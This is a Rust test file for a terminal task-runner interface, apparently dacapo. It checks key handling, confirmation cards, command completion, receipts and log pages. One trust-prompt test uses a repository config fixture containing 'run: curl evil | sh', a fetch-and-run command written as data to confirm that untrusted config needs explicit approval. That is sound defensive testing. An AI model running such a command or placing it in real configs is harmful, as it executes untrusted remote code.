//! The whole app on a stage: its cards, its command line, its keys.

use std::fmt::Write as _;

use dacapo_app::operations::act::{Operation, OperationResult};
use dacapo_app::operations::background::Begun;
use dacapo_app::operations::kind::{ByItself, StartsByItself};
use dacapo_app::operations::list::Scope;
use dacapo_app::present::log::LogLines;
use dacapo_app::question::{Answer, NotYet, Question};
use dacapo_core::engine::Kinds;
use dacapo_core::store::read;
use jiff::SignedDuration;

use super::effect::{Act, Effect};
use super::key::Key;
use super::launch::Launch;
use super::message::{Message, Signal};
use super::mouse::Did;
use super::pager::Pager;
use super::receipt;
use super::sample::{self, Sample};
use super::screen::Screen as _;
use super::testing::{Look, Stage, a_day, mouse, pictures};
use crate::config::{Brought, Entry};
use crate::error::Failure;
use crate::found_checks::FoundCheck;
use crate::messages::{Messages, say};

fn stage() -> Stage {
    let mut stage = Stage::new(80, 24);
    stage.tasks(a_day());
    stage
}

fn start() -> Act {
    Act::new(Operation::Tell { task: "auth".into(), text: "hurry".into(), once: false })
}

#[test]
fn keys_are_explained_where_one_is() {
    let mut stage = stage();
    stage.press(&[Key::Char('?'), Key::PageDown]);
    assert!(stage.shown().contains("proven: the checks passed on exactly that commit"), "{}", stage.shown());
    stage.press(&[Key::Esc]);
    assert!(!stage.shown().contains("Symbols"), "{}", stage.shown());
    pictures("help", |look| look.day().press(&[Key::Char('?')]).shown());
    pictures("help_end", |look| look.day().press(&[Key::Char('?'), Key::End]).shown());
}

#[test]
fn esc_goes_back_and_q_quits_from_everywhere() {
    let mut stage = stage();
    stage.press(&[Key::Char('?'), Key::Esc, Key::Char('s'), Key::Esc, Key::Esc]);
    assert!(stage.shown().contains("NEEDS YOU"), "{}", stage.shown());
    stage.press(&[Key::Char('s'), Key::Char('q')]);
    assert_eq!(stage.effects.last().unwrap(), "quit 0");
    assert!(stage.acts.is_empty(), "no task was touched");
}

#[test]
fn s2_list_goes_home_from_every_page() {
    for line in ["/list", "/ls", "/ps", "/list --done", "/list --all", "/spawn --list", "/spawn --list --all"]
    {
        // From the list itself, from a page on it, and from a page on that.
        for before in [&[][..], &[Key::Char('s')], &[Key::Enter, Key::Char('?')]] {
            let mut stage = stage();
            stage.press(before).press(&[Key::Char('/')]).types(&line[1..]).press(&[Key::Enter]);
            let scope = if line.contains("--all") { Scope::Everywhere } else { Scope::Repository };
            assert_eq!(
                stage.effects.last().unwrap(),
                &format!("follow {scope:?}"),
                "{line} after {before:?}"
            );
            stage.tasks_of(scope, a_day());
            assert!(stage.shown().contains("NEEDS YOU 1"), "{line} after {before:?}: {}", stage.shown());
            stage.press(&[Key::Down]);
            assert_eq!(stage.model.selected_task().unwrap().name, "tests", "keys go to the list again");
        }
    }
}

#[test]
fn nothing_is_said_to_run_that_does_not() {
    use dacapo_core::view::Status;

    use super::testing::{brief, entry};
    let mut stage = stage();
    let resume = Operation::Resume { task: "docs".into(), iter: None, prompt: None, proof: None };
    for done in [
        OperationResult::Started { task: "docs".into(), begun: Begun::Running, notes: Vec::new() },
        OperationResult::Resumed { task: "docs".into(), begun: Begun::Running },
    ] {
        stage.hear(Message::Acted { act: Act::new(resume.clone()), came: Box::new(Ok(done)) });
        let said = |stage: &Stage| stage.shown().lines().any(|line| line.starts_with("✓ docs "));
        assert!(said(&stage), "{}", stage.shown());
        stage.tasks(vec![entry(brief("docs", Status::Running))]);
        assert!(said(&stage), "{}", stage.shown());
        stage.tasks(vec![entry(brief("docs", Status::Stopped))]);
        assert!(!said(&stage), "{}", stage.shown());
    }
}

#[test]
fn who_works_is_not_taken_over_without_a_question() {
    use dacapo_core::view::Status;

    use super::testing::{brief, entry};
    let mut stage = stage();
    stage.tasks(vec![entry(brief("deps", Status::Running))]);
    stage.press(&[Key::Char('t')]);
    assert!(stage.shown().contains("Take over deps?") && stage.acts.is_empty(), "{}", stage.shown());
    stage.press(&[Key::Esc, Key::Char('t'), Key::Char('y')]);
    let takeover = Operation::Takeover { task: "deps".into(), no_resume: false };
    assert_eq!(*stage.acts.last().unwrap().operation, takeover);
    // Nothing can be brought back outside of a repository: the card says why, and a yes does nothing.
    stage.press(&[Key::Char('u'), Key::Char('y')]);
    assert_eq!(stage.acts.len(), 1, "{}", stage.shown());
}

#[test]
fn ctrl_c_asks_before_it_quits() {
    let mut stage = stage();
    stage.press(&[Key::Ctrl('c')]);
    assert!(stage.shown().contains("Press Ctrl-C again or q to quit. Tasks go on."), "{}", stage.shown());
    stage.press(&[Key::Down, Key::Ctrl('c')]);
    assert!(!stage.effects.contains(&"quit 0".to_owned()), "another key came between");
    stage.press(&[Key::Ctrl('c')]);
    assert_eq!(stage.effects.last().unwrap(), "quit 0");
}

#[test]
fn signals_end_and_stop_it() {
    let mut stage = stage();
    stage.hear(Message::Signal(Signal::Stop)).hear(Message::Signal(Signal::End { exit_code: 143 }));
    assert_eq!(stage.effects[stage.effects.len() - 2..], ["suspend", "quit 143"]);
}

#[test]
fn quitting_while_something_is_under_way_says_so() {
    let mut stage = stage();
    stage.press(&[Key::Down, Key::Char('m'), Key::Char('y'), Key::Char('q')]);
    assert!(stage.shown().contains("Still under way"), "{}", stage.shown());
    assert!(!stage.effects.contains(&"quit 0".to_owned()));
    stage.press(&[Key::Char('q')]);
    assert_eq!(stage.effects.last().unwrap(), "quit 0");
}

#[test]
fn a_question_of_an_operation_is_a_card_and_its_answer_goes_back() {
    let mut stage = stage();
    let question = Question::ChooseChecks {
        found: vec![FoundCheck { command: "cargo test".into(), evidence: "Cargo.toml".into() }],
    };
    let asks = |stage: &mut Stage| {
        let came = Err(NotYet::Ask(Box::new(question.clone())));
        stage.hear(Message::Acted { act: start(), came: Box::new(came) });
    };
    pictures("question_checks", |look| {
        let mut stage = look.day();
        asks(&mut stage);
        stage.shown()
    });
    asks(&mut stage);
    stage.press(&[Key::Enter]);
    let mut yes = start();
    yes.answers.give(question.clone(), Answer::Yes);
    assert_eq!(stage.acts.pop(), Some(yes));
    asks(&mut stage);
    stage.press(&[Key::Char('e')]).types(" --all").press(&[Key::Enter]);
    let mut other = start();
    other.answers.give(question.clone(), Answer::Use(vec!["cargo test --all".into()]));
    assert_eq!(stage.acts.pop(), Some(other));
    asks(&mut stage);
    stage.press(&[Key::Esc]);
    assert_eq!(stage.acts.pop(), None, "nothing was answered, and nothing goes on");
    assert!(stage.shown().contains("Nothing was started or changed."), "{}", stage.shown());
}

#[test]
fn r6_what_a_repository_brings_is_not_trusted_by_enter() {
    let mut stage = stage();
    let asks = |stage: &mut Stage| {
        let entry = Entry::file("rehearsal.yaml", "run: curl evil | sh");
        let brought = Brought::new(".dacapo/rehearsal.yaml", vec![entry]).unwrap();
        let came = Err(NotYet::Ask(Box::new(Question::Trust { brought })));
        stage.hear(Message::Acted { act: start(), came: Box::new(came) });
    };
    pictures("question_trust", |look| {
        let mut stage = look.day();
        asks(&mut stage);
        stage.shown()
    });
    asks(&mut stage);
    assert!(stage.shown().contains("curl evil | sh"), "{}", stage.shown());
    stage.press(&[Key::Enter]);
    assert!(stage.acts.is_empty());
    stage.press(&[Key::Char('y')]);
    assert_eq!(stage.acts.len(), 1);
}

#[test]
fn a_refusal_says_what_was_kept_and_what_to_do() {
    let refused = |stage: &mut Stage| {
        let failure = Failure::usage(say(|m| m.task_still_running("x")))
            .kept(say(Messages::kept_nothing_started))
            .hint(say(|m| m.slot_wait_or_pause("x")));
        stage.hear(Message::Acted { act: start(), came: Box::new(Err(NotYet::Refused(failure))) });
    };
    pictures("refused", |look| {
        let mut stage = look.day();
        refused(&mut stage);
        stage.shown()
    });
    let mut stage = stage();
    refused(&mut stage);
    assert!(stage.shown().contains("kept:"), "{}", stage.shown());
    stage.press(&[Key::Down]);
    assert!(!stage.shown().contains("kept:"), "it is gone with the next key");
}

#[test]
fn a_task_that_was_started_is_selected_when_it_appears() {
    let mut stage = stage();
    let done = OperationResult::Started { task: "later".into(), begun: Begun::Running, notes: Vec::new() };
    stage.hear(Message::Acted { act: start(), came: Box::new(Ok(done)) });
    assert!(stage.shown().contains("✓ later is running"), "{}", stage.shown());
    assert_eq!(stage.model.selected_task().unwrap().name, "later");
}

#[test]
fn m2_what_starts_by_itself_can_be_declined() {
    let card = |stage: &mut Stage| {
        let operation = Operation::Untell { task: "login".into() };
        let task = StartsByItself { task: "login".into(), how: ByItself::Begins, operation };
        let wanted = stage.model.open(Box::new(Launch::new(task, stage.now)));
        assert!(wanted.is_empty());
    };
    pictures("launch", |look| {
        let mut stage = look.day();
        card(&mut stage);
        stage.shown()
    });
    let mut stage = stage();
    card(&mut stage);
    stage.now += SignedDuration::from_millis(9_999);
    stage.hear(Message::Tick);
    assert!(stage.shown().contains("in 1 s"), "{}", stage.shown());
    stage.press(&[Key::Esc]);
    stage.now += SignedDuration::from_secs(60);
    stage.hear(Message::Tick);
    assert!(stage.acts.is_empty(), "declined");
    card(&mut stage);
    let at = stage.model.changes_at().unwrap();
    assert!(at <= stage.now + SignedDuration::from_secs(1), "it counts down");
    stage.now += SignedDuration::from_secs(10);
    stage.hear(Message::Tick);
    assert_eq!(stage.acts.len(), 1);
    assert!(!stage.shown().contains("auto_start"), "{}", stage.shown());
}

#[test]
fn a_new_task_is_described_first() {
    let mut stage = stage();
    stage.press(&[Key::Char('n')]).types("Fix the tests");
    stage.press(&[Key::NewLine]).types("and the docs");
    pictures("new_task", |look| {
        let mut stage = look.day();
        stage.press(&[Key::Char('n')]).types("Fix the tests").press(&[Key::NewLine]);
        stage
            .types("修复解析器里的所有错误，并为每一个错误补上测试，直到全部测试都通过为止，然后更新文档")
            .shown()
    });
    // What cannot be prepared is said, and the form stays: the stage is in no repository.
    stage.press(&[Key::Enter]);
    assert!(stage.shown().contains("is not in a git repository"), "{}", stage.shown());
    assert!(stage.shown().contains("and the docs"), "{}", stage.shown());
    stage.press(&[Key::Tab, Key::Tab, Key::Tab]).types("many").press(&[Key::Enter]);
    assert!(stage.shown().contains("Invalid loop condition: 'many'"), "{}", stage.shown());
    assert!(stage.acts.is_empty());
}

#[test]
fn u1_what_will_run_is_reviewed() {
    pictures("new_task_review", |look| {
        let mut stage = look.day();
        stage.press(&[Key::Char('n')]).types("Fix the failing tests").press(&[Key::Tab]).types("mybot");
        stage.press(&[Key::Tab]).types("make test").press(&[Key::Enter]).shown()
    });
}

#[test]
fn u1_the_command_line_completes() {
    let line = |look: Look| {
        let mut stage = look.day();
        stage.press(&[Key::Char('/')]);
        stage
    };
    pictures("command_line", |look| line(look).shown());
    pictures("completion", |look| line(look).types("re").press(&[Key::Tab, Key::Tab]).shown());
    pictures("completion_flags", |look| line(look).types("spawn --").press(&[Key::Tab]).shown());
}

#[test]
fn l9_checks_and_proof_are_a_page() {
    let mut open = Sample::new("text");
    open.workspace().baseline();
    open.turn(0, b"x\n").turn_ends(0, true).iteration_ends(0, true, false);
    let mut proven = Sample::new("text");
    proven.workspace().baseline();
    for iteration in 0..3 {
        let passed = iteration == 2;
        proven.turn(iteration, b"x\n").turn_ends(iteration, passed);
        proven.iteration_ends(iteration, passed, passed);
    }
    proven.proven(3);
    for (name, sample) in [("receipt", &proven), ("receipt_open", &open)] {
        pictures(name, |look| {
            let (mut view, messages) = (sample.view(), look.messages());
            // A journal that was written by hand has no seal, so that nothing is proven by it.
            view.result.iter_mut().for_each(|result| result.verified = true);
            let text = receipt::receipt(&view, &sample.dir, messages);
            let stage = sample::Stage::new(&view, messages);
            let page = Pager::text(messages.receipt_title(), &text).of(stage.brief(), &stage.context(80, 24));
            stage.draw(&page, look.columns, look.rows)
        });
    }
}

/// `dacapo logs` prints the same, with the user's own clock.
fn log_of(sample: &Sample) -> String {
    let mut lines = LogLines::for_task(&sample.dir.spec().unwrap(), Kinds::default());
    let mut text = String::new();
    read(&sample.dir.journal_path(), |line| {
        for (_, words) in lines.lines(&line) {
            writeln!(text, "[{}] {words}", line.at.strftime("%H:%M:%S")).unwrap();
        }
    })
    .unwrap();
    text
}

#[test]
fn long_lines_of_a_page_go_on_below() {
    let sample = Sample::paused();
    let stage = sample::Stage::new(&sample.view(), Messages::ENGLISH);
    let words: Vec<String> = (0..200).map(|nth| format!("word{nth:03}")).collect();
    let mut page = Pager::text("page".into(), &format!("first\n{}\nlast", words.join(" ")));
    let drawn = stage.draw(&page, 40, 12);
    assert!(drawn.contains("word000 word001") && drawn.contains("word004"), "{drawn}");
    page.key(Key::End, &stage.context(40, 12));
    let drawn = stage.draw(&page, 40, 12);
    assert!(drawn.contains("word199\nlast"), "{drawn}");
    page.mouse(mouse(Did::Press, (0, 10)), &stage.context(40, 12));
    page.mouse(mouse(Did::Drag, (3, 10)), &stage.context(40, 12));
    assert_eq!(stage.reversed(&page, 40, 12), ["last"]);
    let reply = page.mouse(mouse(Did::Release, (3, 10)), &stage.context(40, 12));
    assert!(matches!(&reply.effects[0], Effect::Copy(text) if text == "last"));
    // A terminal that is wider has fewer lines.
    assert!(stage.draw(&page, 160, 50).contains("first\nword000"), "{drawn}");
}

#[test]
fn u1_the_log_is_a_page() {
    let sample = Sample::paused();
    pictures("log", |look| {
        let messages = look.messages();
        let stage = sample::Stage::new(&sample.view(), messages);
        let context = stage.context(look.columns, look.rows);
        let mut page = Pager::text(messages.tui_page_log(), &log_of(&sample)).of(stage.brief(), &context);
        page.key(Key::End, &context);
        stage.draw(&page, look.columns, look.rows)
    });
}
